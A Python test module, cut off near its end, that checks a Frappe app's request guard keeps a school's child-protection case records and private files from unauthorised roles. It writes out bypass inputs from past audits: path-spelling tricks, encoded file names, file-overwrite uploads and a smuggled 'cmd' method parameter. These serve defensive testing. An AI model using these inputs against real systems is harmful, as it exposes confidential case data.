"""Need-to-know at the request boundary: door classes tried over real HTTP requests (Frappe's
own test client, through ``frappe.app.application``) by every function of both schools, the
board, a System Manager and a Meldcode role without a school, a Website User, and as the
positive control the case team of the record's school (or Administrator where a door is closed
to everyone), so that a broken probe cannot pass as a closed door.

The records live at school B. The requests run in their own threads and transactions, so this
class commits its records and removes them afterwards."""

import io
import json
import re
import sys
import threading
import types

import frappe
from frappe.core.doctype.report import report as report_module
from frappe.custom.doctype.property_setter.property_setter import make_property_setter
from frappe.tests.test_api import make_request
from frappe.utils import get_test_client

from meldcode_app.access import request_guard
from meldcode_app.patches import (
	apps_reports_unprepared,
	connections_name_fields,
	custom_fields_named_as_fields,
	fetches_of_fields_only,
	field_settings_name_fields,
)
from meldcode_app.rules.registry import CHILD_DOCTYPES, RECORD_DOCTYPES, TRACE_DOCTYPES
from meldcode_app.rules.roles import ADMINISTRATOR
from meldcode_app.tests.factories import PUPIL, as_user, conversation, make_signal, melding, open_dossier
from meldcode_app.tests.utils import (
	BOARD_USER,
	FUNCTIONS,
	SCHOOLS,
	MeldcodeTestCase,
	make_user,
	staff_user,
)

SYSTEM_MANAGER = "systeembeheer@meldcode.test"
ROLE_WITHOUT_SCHOOL = "af.zonder.school@meldcode.test"
WEBSITE_USER = "ouder@meldcode.test"
CHARTS = {"Group By": "Meldcode Guard Test Group By", "Count": "Meldcode Guard Test Heatmap"}
FACT = "Blauwe plek op de linkerwang"
PARENT_CONTACT = "Moeder gebeld over de blauwe plek"
FILE_CONTENT = "vertrouwelijke bijlage van school B"
CASE_TEAM_B = {staff_user("B", f) for f in ("Intern Begeleider", "Aandachtsfunctionaris", "Director")}
TEACHER_B = staff_user("B", "Teacher")
TEACHER_A = staff_user("A", "Teacher")


def users() -> list[str]:
	return [staff_user(s, f) for s in ("A", "B") for f in FUNCTIONS] + [
		BOARD_USER,
		SYSTEM_MANAGER,
		ROLE_WITHOUT_SCHOOL,
		WEBSITE_USER,
		"Administrator",
	]


class TestRequestGuard(MeldcodeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		make_user(SYSTEM_MANAGER, "Systeem", "System Manager")
		make_user(ROLE_WITHOUT_SCHOOL, "Zonder school", "Meldcode Aandachtsfunctionaris")
		if not frappe.db.exists("User", WEBSITE_USER):
			frappe.get_doc(
				{"doctype": "User", "email": WEBSITE_USER, "first_name": "Ouder", "user_type": "Website User"}
			).insert(ignore_permissions=True)
		cls.tokens = {user: api_token(user) for user in users()}
		try:
			cls.make_case()
		except Exception:
			cls.tearDownClass()  # the test runner commits between modules: leave nothing behind
			raise
		frappe.db.commit()

	@classmethod
	def make_case(cls):
		cls.records = cls.make_records()
		cls.other_dossier = open_dossier("A", [make_signal("A", pupil="Testkind Noor Jansen").name]).name
		for chart_type, chart_name in CHARTS.items():
			if not frappe.db.exists("Dashboard Chart", chart_name):
				frappe.get_doc(
					{
						"doctype": "Dashboard Chart",
						"chart_name": chart_name,
						"chart_type": chart_type,
						"document_type": "Meldcode Dossier",
						"group_by_type": "Count",
						"group_by_based_on": "pupil_name",
						"based_on": "creation",
						"type": "Heatmap" if chart_type == "Count" else "Bar",
						"is_public": 1,
						"timeseries": 0,
						"filters_json": "[]",
					}
				).insert(ignore_permissions=True)
		for user in set(users()) - {WEBSITE_USER}:  # a record of one's own to attach files to
			as_user(user)(
				frappe.get_doc({"doctype": "ToDo", "description": "Eigen taak", "allocated_to": user}).insert,
				set_name=own_todo(user),
			)

	@classmethod
	def tearDownClass(cls):
		frappe.set_user("Administrator")
		remove_records_of_school(SCHOOLS["B"][0])
		remove_records_of_school(SCHOOLS["A"][0])
		frappe.db.commit()
		super().tearDownClass()

	@classmethod
	def make_records(cls) -> frappe._dict:
		signal = make_signal(
			"B",
			parent_contacts=[{"contact_date": frappe.utils.today(), "description": PARENT_CONTACT}],
		)
		dossier = open_dossier("B", [signal.name])
		talk = conversation(dossier, school="B", submit=False)
		contact = melding(dossier, school="B", submit=False)
		attachment = frappe.get_doc(
			{
				"doctype": "File",
				"file_name": "bijlage-dossier-b.txt",
				"content": FILE_CONTENT,
				"is_private": 1,
				"attached_to_doctype": "Meldcode Dossier",
				"attached_to_name": dossier.name,
			}
		).insert()
		frappe.get_doc(
			{
				"doctype": "ToDo",
				"description": "Termijn",
				"allocated_to": staff_user("B", "Aandachtsfunctionaris"),
				"reference_type": "Meldcode Dossier",
				"reference_name": dossier.name,
			}
		).insert(ignore_permissions=True)
		return frappe._dict(
			signal=signal.name,
			dossier=dossier.name,
			conversation=talk.name,
			melding=contact.name,
			fact=frappe.get_all("Meldcode Reported Fact", {"parent": contact.name}, pluck="name")[0],
			file_url=attachment.file_url,
			file=attachment.name,
		)

	def call(self, user: str, door: str, http: str = "get", /, **params):
		"""One request as ``user``; returns (HTTP status, the data it answered with)."""
		frappe.db.rollback()  # a fresh snapshot: earlier requests committed in their own transactions
		params = {k: v(user) if callable(v) else v for k, v in params.items()}
		return request_as(self.tokens[user], door, http, **params)

	def note_setter(self, doctype_or_field: str, **values):
		"""A System Manager's Property Setter on Note through the REST door: (HTTP status, answer)."""
		return self.call(
			SYSTEM_MANAGER,
			"/api/resource/Property Setter",
			"json",
			doctype_or_field=doctype_or_field,
			doc_type="Note",
			**values,
		)

	def updated(self, doctype: str, name: str, **values) -> bool:
		"""Whether a System Manager's ``frappe.client.bulk_update`` of one record (or row) went through."""
		docs = [{"doctype": doctype, "docname": name, **values}]
		status, answer = self.call(SYSTEM_MANAGER, "frappe.client.bulk_update", "post", docs=docs)
		self.assertEqual(status, 200, answer)
		return not answer["failed_docs"]

	def deleted(self, doctype: str, name: str) -> bool:
		"""Whether a System Manager's ``DELETE /api/resource`` of one record (or row) went through."""
		return self.call(SYSTEM_MANAGER, f"/api/resource/{doctype}/{name}", "delete")[0] == 202

	def listed(self, user: str, doctype: str, field: str, values: list) -> set:
		"""Which of ``values`` of ``field`` the user's list of ``doctype`` shows (none when refused)."""
		status, rows = self.call(
			user,
			"frappe.client.get_list",
			doctype=doctype,
			fields=[field],
			filters=[[field, "in", values]],
			limit_page_length=0,
		)
		return {row[field] for row in rows} if status == 200 else set()

	def opens(self, user, probe) -> tuple[bool, str]:
		"""Whether the door let ``user`` through to the record, and what it answered."""
		status, data = self.call(user, probe["method"], probe.get("http", "get"), **probe["params"])
		answered = status == 200 or probe.get("errors_leak")  # some leak through an error message
		return bool(answered and probe["leaks"](data)), f"HTTP {status}: {str(data)[:160]}"

	def run_class(self, name: str, probes: list[dict]):
		"""Every probe of a door class for every user: open exactly for ``open_to`` (and Administrator)."""
		unexpected, count = [], 0
		for probe in probes:
			for user in users():
				count += 1
				expected = user in probe["open_to"] or (user == "Administrator" and probe["admin"])
				opened, answer = self.opens(user, probe)
				if opened != expected:
					unexpected.append(
						f"{probe['name']} as {user}: {'open' if opened else 'closed'} ({answer})"
					)
		print(f"\n{name}: {count} probes, {len(unexpected)} unexpected")
		self.assertEqual(unexpected, [])

	# Doors ---------------------------------------------------------------------------------

	def test_child_tables_through_every_query_door(self):
		r = self.records
		facts = lambda data: FACT in json.dumps(data)  # noqa: E731
		probes = [
			probe(
				"get_list of reported facts",
				"frappe.client.get_list",
				facts,
				CASE_TEAM_B,
				doctype="Meldcode Reported Fact",
				parent="Veilig Thuis Contact",
				fields=["*"],
			),
			probe(
				"get_value of a reported fact",
				"frappe.client.get_value",
				facts,
				CASE_TEAM_B,
				doctype="Meldcode Reported Fact",
				parent="Veilig Thuis Contact",
				fieldname=["fact"],
				filters={"parent": r.melding},
			),
			probe(
				"get of a reported fact on its own (rows are read with their record)",
				"frappe.client.get",
				facts,
				set(),
				doctype="Meldcode Reported Fact",
				name=r.fact,
				parent="Veilig Thuis Contact",
			),
			probe(
				"REST list of reported facts",
				"/api/resource/Meldcode Reported Fact",
				facts,
				CASE_TEAM_B,
				parent="Veilig Thuis Contact",
				fields=["fact"],
			),
			probe(
				"report view with a child column",
				"frappe.desk.reportview.get",
				facts,
				CASE_TEAM_B,
				doctype="Veilig Thuis Contact",
				fields=["`tabMeldcode Reported Fact`.`fact`"],
			),
			probe(
				"parents' contacts of a signal",
				"frappe.client.get_list",
				lambda data: PARENT_CONTACT in json.dumps(data),
				CASE_TEAM_B | {TEACHER_B},
				doctype="Meldcode Signal Parent Contact",
				parent="Meldcode Signal",
				fields=["description"],
			),
			probe(
				"agreements of a conversation",
				"frappe.client.get_list",
				lambda data: "Moeder belt de huisarts" in json.dumps(data),
				CASE_TEAM_B,
				doctype="Meldcode Agreement",
				parent="Meldcode Conversation",
				fields=["agreement"],
			),
		]
		self.run_class("child tables", probes)

	def test_counts_aggregates_and_charts(self):
		r = self.records
		positive = lambda data: bool(data) and (not isinstance(data, int | float) or data > 0)  # noqa: E731
		probes = [
			probe(
				"get_count by pupil",
				"frappe.client.get_count",
				positive,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				filters={"pupil_name": PUPIL},
			),
			probe(
				"get_count of a child table by like",
				"frappe.client.get_count",
				positive,
				CASE_TEAM_B,
				doctype="Meldcode Reported Fact",
				filters=[["fact", "like", "Blauwe%"]],
			),
			probe(
				"report view count",
				"frappe.desk.reportview.get_count",
				positive,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				filters={"pupil_name": PUPIL},
			),
			probe(
				"REST v2 count",
				"/api/v2/doctype/Meldcode Dossier/count",
				positive,
				CASE_TEAM_B,
				filters={"pupil_name": PUPIL},
			),
			probe(
				"get by filters",
				"frappe.client.get",
				# the pupil's dossier, or another of hers a test before left open in school B
				lambda data: isinstance(data, dict) and data.get("pupil_name") == PUPIL,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				filters={"pupil_name": PUPIL},
			),
			probe(
				"list sidebar assigned-to",
				"frappe.desk.listview.get_group_by_count",
				positive,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				current_filters={"name": r.dossier},
				field="assigned_to",
			),
			probe(
				"workflow-state count on the pupil column",
				"frappe.workflow.doctype.workflow.workflow.get_workflow_state_count",
				lambda data: PUPIL in json.dumps(data),
				set(),
				doctype="Meldcode Dossier",
				workflow_state_field="pupil_name",
				states=[],
			),
			probe(
				"saved Group By chart on the pupil column",
				"frappe.desk.doctype.dashboard_chart.dashboard_chart.get",
				lambda data: PUPIL in json.dumps(data),
				CASE_TEAM_B,
				chart_name=CHARTS["Group By"],
				refresh=1,
			),
			probe(
				"saved Group By chart without refresh (Frappe's cache path)",
				"frappe.desk.doctype.dashboard_chart.dashboard_chart.get",
				lambda data: PUPIL in json.dumps(data),
				CASE_TEAM_B,
				chart_name=CHARTS["Group By"],
			),
			probe(
				"saved Heatmap chart (counted past the hooks)",
				"frappe.desk.doctype.dashboard_chart.dashboard_chart.get",
				lambda data: bool((data or {}).get("dataPoints")),
				set(),
				chart_name=CHARTS["Count"],
				refresh=1,
			),
			probe(
				"number card passed as JSON",
				"frappe.desk.doctype.number_card.number_card.get_result",
				positive,
				CASE_TEAM_B,
				doc={
					"document_type": "Meldcode Dossier",
					"function": "Count",
					"filters_json": json.dumps([["Meldcode Dossier", "pupil_name", "=", PUPIL]]),
				},
				filters=[["Meldcode Dossier", "pupil_name", "=", PUPIL]],
			),
		]
		self.run_class("counts, aggregates and charts", probes)

	def test_search_with_every_flag(self):
		found = lambda data: PUPIL in json.dumps(data) or self.records.dossier in json.dumps(data)  # noqa: E731
		probes = [
			probe(
				"link search",
				"frappe.desk.search.search_link",
				found,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				txt=lambda user: self.records.dossier,
				reference_doctype="Meldcode Weighing",
			),
			probe(
				"search widget asking to ignore user permissions (the app's hooks still hold)",
				"frappe.desk.search.search_widget",
				found,
				CASE_TEAM_B,
				doctype="Meldcode Dossier",
				txt=lambda user: self.records.dossier,
				ignore_user_permissions=1,
				filter_fields=["pupil_name"],
			),
		]
		self.run_class("search", probes)

	def test_json_bearing_methods(self):
		r = self.records
		probes = [
			probe(
				"report view filtering on a child column letter by letter",
				"frappe.desk.reportview.get",
				lambda data: r.melding in json.dumps(data),
				CASE_TEAM_B,
				doctype="Veilig Thuis Contact",
				fields=["name"],
				filters=[["Meldcode Reported Fact", "fact", "like", "Blauwe%"]],
			),
			probe(
				"saving a posted document",
				"frappe.client.save",
				lambda data: isinstance(data, dict) and data.get("parents_reaction") == "Via JSON",
				{staff_user("B", "Aandachtsfunctionaris"), staff_user("B", "Director")},
				http="post",
				doc=lambda user: {
					**frappe.get_doc("Veilig Thuis Contact", r.melding).as_dict(),
					"parents_reaction": "Via JSON",
				},
			),
		]
		self.run_class("JSON-bearing methods", probes)

	def test_files_of_a_case(self):
		r = self.records
		content = lambda data: FILE_CONTENT in (data if isinstance(data, str) else json.dumps(data))  # noqa: E731
		probes = [
			probe("download of the private file", r.file_url, content, CASE_TEAM_B),
			probe(  # the case team gets a copy of its own (round 222: no other File names the file)
				"re-attaching the file to one's own record",
				"upload_file",
				lambda data: isinstance(data, dict) and data.get("file_url") == r.file_url,
				(),
				admin=False,
				http="post",
				file_url=r.file_url,
				doctype="ToDo",
				docname=own_todo,
				is_private=1,
			),
		]
		self.run_class("files", probes)

	def test_a_case_file_is_answered_as_a_file_that_is_not_there(self):
		"""Round 46: the guard's own refusal of a case file's address, and Frappe's download_file
		naming the record's DocType, told anyone, a guest too, that a file of that name was a case
		record's; and a teacher who set their own File's address to "/private/files//<the case
		file>" downloaded it (Frappe serves the file on the disk by the row with that spelling)."""
		r = self.records
		missing = "/private/files/bestaat-niet-ronde-46.txt"
		doubled = r.file_url.replace("/files/", "/files//")

		def answer(user, path, **query):
			client = get_test_client(use_cookies=False)
			headers = {"Authorization": self.tokens[user]} if user != "Guest" else {}
			response = make_request(
				target=client.get, args=(path,), kwargs={"headers": headers, "query_string": query}
			)
			return response.status_code, response.get_data(as_text=True)

		def without_ids(text):
			return re.sub(r'"__frappe_exc_id\\*": \\*"[0-9a-f]+\\*"', "", text)

		outsiders = ("Guest", TEACHER_B, staff_user("A", "Aandachtsfunctionaris"), BOARD_USER, SYSTEM_MANAGER)
		for user in outsiders:
			self.assertEqual(answer(user, r.file_url), answer(user, missing), user)
			self.assertEqual(answer(user, doubled)[0], 403, user)
			case = answer(user, "/api/method/download_file", file_url=r.file_url)
			none = answer(user, "/api/method/download_file", file_url=missing)
			self.assertNotEqual(case[0], 200, user)
			self.assertEqual(without_ids(case[1]), without_ids(none[1]).replace(missing, r.file_url), user)
			# Round 50: the database finds a File by "…TXT" or "… " too.
			for spelling in (
				r.file_url.upper().replace("/PRIVATE/FILES/", "/private/files/"),
				r.file_url + " ",
			):
				other = answer(user, "/api/method/download_file", file_url=spelling)
				self.assertEqual(without_ids(other[1]), without_ids(none[1]).replace(missing, spelling), user)
		af_b = staff_user("B", "Aandachtsfunctionaris")
		self.assertEqual(answer(af_b, r.file_url), (200, FILE_CONTENT), "the case team downloads it")
		self.assertEqual(answer(af_b, doubled)[0], 403, "under another spelling for no one")
		fresh = as_user(af_b)(
			frappe.get_doc(
				{
					"doctype": "File",
					"file_name": "ronde-46.txt",
					"content": b"ronde 46",
					"is_private": 1,
					"attached_to_doctype": "Meldcode Dossier",
					"attached_to_name": r.dossier,
				}
			).insert
		)
		frappe.db.commit()
		self.addCleanup(frappe.db.delete, "File", {"name": fresh.name})
		status, text = answer(af_b, "/api/method/download_file", file_url=fresh.file_url)
		self.assertEqual((status, text), (200, "ronde 46"), "and through download_file")
		self.assertEqual(answer(TEACHER_B, "/api/method/download_file", file_url=fresh.file_url)[0], 404)
		self.assertRegex(fresh.file_name, r"^ronde-46-[0-9a-f]{16}\.txt$", "a name no one guesses (round 47)")

		def own_file(user, content=b"eigen"):
			return as_user(user)(
				frappe.get_doc(
					{"doctype": "File", "file_name": "eigen.txt", "content": content, "is_private": 1}
				).insert
			)

		def readdress(user, name, file_url):
			return set_file_value(self.tokens[user], name, file_url=file_url)

		mine = own_file(TEACHER_B)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "File", {"file_name": ("like", "eigen%")})
		for address in (doubled, r.file_url, missing):
			status, answered = readdress(TEACHER_B, mine.name, address)
			self.assertEqual(status, 404, address)
		self.assertEqual(frappe.db.get_value("File", mine.name, "file_url"), mine.file_url)
		other = own_file(TEACHER_B, b"ander")
		frappe.db.commit()
		status, answered = readdress(TEACHER_B, mine.name, other.file_url)
		self.assertEqual(status, 200, "the positive control: an address of one's own file")
		theirs = own_file(af_b)
		frappe.db.commit()
		status, answered = readdress(af_b, theirs.name, r.file_url)
		self.assertEqual(status, 404, "nor does the case team's own File name it (round 222)")

	def test_an_upload_never_writes_over_another_users_file(self):
		"""Round 214: Frappe 15.74 checked whether a file of the uploaded name was there, then wrote
		it under that name with "#" (or "?", "%") made "_": teacher B's "bewijs#foto" overwrote
		teacher A's private "bewijs_foto", as it would a case file whose name one knew. The control:
		teacher A's file is read back as she wrote it, and B's upload is kept as his own."""
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "File", {"owner": ("in", (TEACHER_A, TEACHER_B))})
		stem = f"bewijs_foto-{frappe.generate_hash(length=6)}"

		def upload(user, name, content):
			response = make_request(
				target=get_test_client(use_cookies=False).post,
				args=("/api/method/upload_file",),
				kwargs={
					"headers": {"Authorization": self.tokens[user]},
					"data": {"file": (io.BytesIO(content), name), "is_private": "1"},
					"content_type": "multipart/form-data",
				},
			)
			self.assertEqual(response.status_code, 200, response.get_data(as_text=True))
			return response.json["message"]["file_url"]

		theirs = upload(TEACHER_A, f"{stem}.txt", b"van leerkracht A")
		mine = upload(TEACHER_B, f"{stem.replace('_', '#')}.txt", b"van leerkracht B")
		frappe.db.commit()
		self.assertNotEqual(mine, theirs)
		for user, url, content in (
			(TEACHER_A, theirs, "van leerkracht A"),
			(TEACHER_B, mine, "van leerkracht B"),
		):
			response = make_request(
				target=get_test_client(use_cookies=False).get,
				args=(url,),
				kwargs={"headers": {"Authorization": self.tokens[user]}},
			)
			self.assertEqual(response.get_data(as_text=True), content, url)

	def test_no_file_of_ones_own_reaches_a_case_file_on_the_disk(self):
		"""Round 47: Frappe decodes a File's address on every save while the disk keeps the name it
		was written with, so a teacher's upload named "<case file>%2E<ext>" became the case file's
		address: it was zipped, made public and, when the upload failed, deleted; a File's
		thumbnail named a case file, which Frappe removed with the teacher's File; the site's own
		URL counted as a remote address. The case file's name is known here (one from before the
		upgrade; new ones carry a part no one guesses)."""
		r = self.records
		case_name = r.file_url.rsplit("/", 1)[1]
		stem, extension = case_name.rsplit(".", 1)
		af_b = staff_user("B", "Aandachtsfunctionaris")

		def upload(user, name):
			response = uploaded(self.tokens[user], name)
			answer = response.json if response.is_json else {}
			stored = (answer.get("message") or {}) if response.status_code == 200 else {}
			return response.status_code, answer.get("exc_type"), "%" in (stored.get("file_url") or "")

		def on_disk():
			client = get_test_client(use_cookies=False)
			headers = {"Authorization": self.tokens[af_b]}
			response = make_request(target=client.get, args=(r.file_url,), kwargs={"headers": headers})
			return response.status_code, response.get_data(as_text=True)

		def set_file(user, name, **values):
			return set_file_value(self.tokens[user], name, **values)

		# Refused on Frappe 15.55 (it keeps %2E in the address), stored under a plain name on 15.74
		# (it replaces the %): either way as for a name no case file has.
		escaped = upload(TEACHER_B, f"{stem}%2E{extension}")
		self.assertEqual(
			escaped, upload(TEACHER_B, f"bestaat-niet%2E{extension}"), "no word of the case file"
		)
		self.assertEqual(on_disk(), (200, FILE_CONTENT), "the case file is still there")

		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "File", {"owner": TEACHER_B})
		mine, other = (
			as_user(TEACHER_B)(
				frappe.get_doc(
					{"doctype": "File", "file_name": name, "content": text, "is_private": 1}
				).insert
			)
			for name, text in (("mijn.txt", b"mijn"), ("ander.txt", b"ander"))
		)
		frappe.db.commit()
		site = frappe.utils.get_url()
		for field, value in (
			("thumbnail_url", r.file_url),
			("thumbnail_url", f"/private/files/map/{case_name}"),
			("file_url", f"{site}{r.file_url}"),
		):
			status, answered = set_file(TEACHER_B, mine.name, **{field: value})
			self.assertEqual(status, 404, f"{field}={value}: {answered}")
		status, answered = set_file(TEACHER_B, mine.name, thumbnail_url=other.file_url)
		self.assertEqual(status, 200, f"the positive control: a thumbnail of one's own file: {answered}")
		theirs = fresh_case_file(r.dossier)
		frappe.db.commit()
		self.addCleanup(frappe.db.delete, "File", {"name": theirs})
		# a case record's File keeps its thumbnail, also for the case team (round 222)
		self.assertEqual(set_file(af_b, theirs, thumbnail_url=r.file_url)[0], 403)

		# A File stored before the rules with a case file's name as its thumbnail: deleting it
		# leaves the case file.
		frappe.db.set_value("File", mine.name, "thumbnail_url", r.file_url)
		frappe.db.commit()
		status, answered = request_as(
			self.tokens[TEACHER_B], "frappe.client.delete", "post", doctype="File", name=mine.name
		)
		self.assertEqual(status, 200, answered)
		self.assertEqual(on_disk(), (200, FILE_CONTENT), "the case file is still there")

	def test_a_file_by_its_name_alone_reaches_no_case_file(self):
		"""Round 48: without an address Frappe reads and writes the file a File's name names: a
		teacher's File named as a case file, with no address, zipped it; one renamed as a case
		record's picture overwrote it by Frappe's image optimisation (and again when the save was
		refused); an upload named as a case file in capitals was refused, which told it existed."""
		from PIL import Image

		def png(colour):
			out = io.BytesIO()
			Image.new("RGB", (8, 8), colour).save(out, "PNG")
			return out.getvalue()

		af_b = staff_user("B", "Aandachtsfunctionaris")
		picture = as_user(af_b)(
			frappe.get_doc(
				{
					"doctype": "File",
					"file_name": "foto.png",
					"content": png("red"),
					"is_private": 1,
					"attached_to_doctype": "Meldcode Dossier",
					"attached_to_name": self.records.dossier,
				}
			).insert
		)
		original = picture.get_content()
		mine = as_user(TEACHER_B)(
			frappe.get_doc(
				{"doctype": "File", "file_name": "mijn.png", "content": png("green"), "is_private": 1}
			).insert
		)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "File", {"name": ("in", (picture.name, mine.name))})
		token = self.tokens[TEACHER_B]
		for name in (picture.file_name, "bestaat-niet.png"):
			status, answer = request_as(
				token,
				"frappe.client.insert",
				"post",
				doc={"doctype": "File", "file_name": name, "is_private": 1},
			)
			self.assertEqual(status, 404, f"{name}: {answer}")
		status, answer = request_as(
			token,
			"frappe.client.set_value",
			"post",
			doctype="File",
			name=mine.name,
			fieldname="file_name",
			value=picture.file_name,
		)
		status, answer = request_as(
			token, "run_doc_method", "post", dt="File", dn=mine.name, method="optimize_file"
		)
		self.assertNotEqual(status, 200, answer)
		self.assertEqual(
			frappe.get_doc("File", picture.name).get_content(), original, "the picture is as it was"
		)

		def upload(name):
			return uploaded(token, name).status_code

		self.assertEqual(upload(picture.file_name.upper()), upload("BESTAAT-NIET.TXT"))
		frappe.db.delete("File", {"owner": TEACHER_B, "file_name": ("like", "%.TXT")})
		frappe.db.delete("File", {"owner": TEACHER_B, "file_name": ("like", "%.PNG")})

	def test_the_sidebars_assigned_to_counts_only_the_lists_own_records(self):
		"""Round 48: the list sidebar's "assigned to" counted every ToDo whose record has the same
		name in any DocType: a Tag named as a dossier counted the dossier's ToDos, by whom."""
		dossier = self.records.dossier
		frappe.get_doc({"doctype": "Tag", "name": dossier}).insert(
			ignore_permissions=True, ignore_if_duplicate=True
		)
		frappe.get_doc(
			{
				"doctype": "ToDo",
				"description": "Label",
				"allocated_to": TEACHER_B,
				"reference_type": "Tag",
				"reference_name": dossier,
			}
		).insert(ignore_permissions=True)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "ToDo", {"reference_type": "Tag"})
		self.addCleanup(frappe.db.delete, "Tag", {"name": dossier})
		status, answer = request_as(
			self.tokens[TEACHER_B],
			"frappe.desk.listview.get_group_by_count",
			"post",
			doctype="Tag",
			current_filters=[["name", "=", dossier]],
			field="assigned_to",
		)
		self.assertEqual(status, 200, answer)
		self.assertEqual(answer, [{"name": TEACHER_B, "count": 1}], "the Tag's own ToDo only")

	def test_a_records_connections_count_only_what_its_reader_may_read(self):
		"""Round 47: Frappe counts the connections under a form past permissions: a System Manager
		without a school counted a teacher's ToDos of a case's terms, and a parent's Access Logs of
		the verslagen they had read."""
		todo = {"doctype": "ToDo", "allocated_to": TEACHER_B}
		frappe.get_doc(
			{
				**todo,
				"description": "Termijn",
				"reference_type": "Meldcode Dossier",
				"reference_name": self.records.dossier,
			}
		).insert(ignore_permissions=True)
		frappe.get_doc({**todo, "description": "Rooster maken"}).insert(ignore_permissions=True)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(
			frappe.db.delete,
			"ToDo",
			{"allocated_to": TEACHER_B, "description": ("in", ("Termijn", "Rooster maken"))},
		)

		def counted(user):
			status, data = request_as(
				self.tokens[user],
				"frappe.desk.notifications.get_open_count",
				doctype="User",
				name=TEACHER_B,
				items=["ToDo"],
			)
			self.assertEqual(status, 200, data)
			return {row["doctype"]: row["count"] for row in data["count"]["external_links_found"]}

		everything = frappe.db.count("ToDo", {"allocated_to": TEACHER_B})
		self.assertEqual(counted(SYSTEM_MANAGER), {"ToDo": everything - 1}, "the plain ToDos only")
		self.assertEqual(counted("Administrator"), {"ToDo": everything}, "the positive control")

	def test_the_case_team_attaches_a_file_through_the_desks_own_door(self):
		"""Round 25: the path's method (/api/method/upload_file) was read as the upload's own
		``method`` argument, so the desk's uploader was refused for the case team."""

		def upload(user):
			client = get_test_client(use_cookies=False)
			response = make_request(
				target=client.post,
				args=("/api/method/upload_file",),
				kwargs={
					"headers": {"Authorization": self.tokens[user]},
					"data": {
						"file": (io.BytesIO(b"Bijlage bij het dossier."), "bijlage.txt"),
						"doctype": "Meldcode Dossier",
						"docname": self.records.dossier,
						"is_private": "1",
					},
					"content_type": "multipart/form-data",
				},
			)
			return response.status_code

		self.assertEqual(upload(staff_user("B", "Aandachtsfunctionaris")), 200)
		self.assertEqual(upload(staff_user("A", "Aandachtsfunctionaris")), 403, "not another school's")
		frappe.db.commit()
		self.assertTrue(  # Frappe gives the file a name of its own
			frappe.db.exists(
				"File", {"attached_to_name": self.records.dossier, "file_name": ("like", "bijlage%")}
			)
		)

	def test_rewriting_the_school_or_dossier(self):
		r = self.records
		writers_b = {staff_user("B", "Aandachtsfunctionaris"), staff_user("B", "Director")}

		def stored(doctype, name, field):
			frappe.db.rollback()
			return frappe.db.get_value(doctype, name, field)

		probes = [
			probe(
				"set_value of school (no one, Administrator included)",
				"frappe.client.set_value",
				lambda data: stored("Veilig Thuis Contact", r.melding, "school") != SCHOOLS["B"][0],
				set(),
				http="post",
				admin=False,
				doctype="Veilig Thuis Contact",
				name=r.melding,
				fieldname="school",
				value=SCHOOLS["A"][0],
			),
			probe(
				"set_value of dossier (no one, Administrator included)",
				"frappe.client.set_value",
				lambda data: stored("Meldcode Signal", r.signal, "dossier") != r.dossier,
				set(),
				http="post",
				admin=False,
				doctype="Meldcode Signal",
				name=r.signal,
				fieldname="dossier",
				value=self.other_dossier,
			),
			probe(
				"set_value of a text (positive control of the same door)",
				"frappe.client.set_value",
				lambda data: stored("Veilig Thuis Contact", r.melding, "parents_reaction") == "Aangevuld",
				writers_b,
				http="post",
				doctype="Veilig Thuis Contact",
				name=r.melding,
				fieldname="parents_reaction",
				value="Aangevuld",
			),
		]
		self.run_class("rewriting the key", probes)

	def test_writes_into_another_schools_record(self):
		r = self.records
		done = lambda data: data is not None  # noqa: E731
		probes = [
			probe(
				"a ToDo pointing at the dossier",
				"frappe.client.insert",
				done,
				CASE_TEAM_B,
				http="post",
				doc={
					"doctype": "ToDo",
					"description": "Kijk mee",
					"reference_type": "Meldcode Dossier",
					"reference_name": r.dossier,
				},
			),
			probe(
				"a comment",
				"frappe.desk.form.utils.add_comment",
				done,
				CASE_TEAM_B,
				http="post",
				reference_doctype="Meldcode Dossier",
				reference_name=r.dossier,
				content="Meegelezen",
				comment_email="x@meldcode.test",
				comment_by="x",
			),
			probe(
				"a like",
				"frappe.desk.like.toggle_like",
				lambda data: True,
				CASE_TEAM_B,
				http="post",
				doctype="Meldcode Dossier",
				name=r.dossier,
				add="Yes",
			),
			probe(
				"a label (no one: labels are one list for the whole site)",
				"frappe.desk.doctype.tag.tag.add_tag",
				lambda data: True,
				set(),
				http="post",
				admin=False,
				tag=lambda user: f"gezien-{frappe.scrub(user)[:20]}",
				dt="Meldcode Dossier",
				dn=r.dossier,
			),
			probe(
				"following the dossier by e-mail",
				"frappe.desk.form.document_follow.update_follow",
				lambda data: True,
				set(),
				http="post",
				doctype="Meldcode Dossier",
				doc_name=r.dossier,
				following=1,
			),
			probe(
				"an assignment",
				"frappe.desk.form.assign_to.add",
				lambda data: True,
				set(),
				http="post",
				doctype="Meldcode Dossier",
				name=r.dossier,
				assign_to=[staff_user("B", "Aandachtsfunctionaris")],
			),
		]
		self.run_class("writes into a record", probes)

	def test_the_guard_judges_the_method_frappe_runs(self):
		"""Frappe runs ``cmd`` before anything else a request names, on any path; the guard lets it
		run on the site's root only (round 177: "/private/files/x.png?cmd=…" as a picture), and a
		method named in two places that differ is refused for everyone."""
		leaked = lambda data: PUPIL in json.dumps(data, default=str)  # noqa: E731
		state_count = "frappe.workflow.doctype.workflow.workflow.get_workflow_state_count"
		counted = {"doctype": "Meldcode Dossier", "workflow_state_field": "pupil_name", "states": "[]"}
		listed = {"doctype": "Meldcode Dossier", "fields": '["pupil_name"]', "limit_page_length": 0}
		probes = [
			probe(
				f"cmd behind {path}", path, leaked, set(), http=http, admin=False, cmd=state_count, **counted
			)
			for path, http in (
				("frappe.client.get_list", "post"),
				("frappe.client.get_list", "get"),
				("/api/v2/method/frappe.client.get_list", "post"),
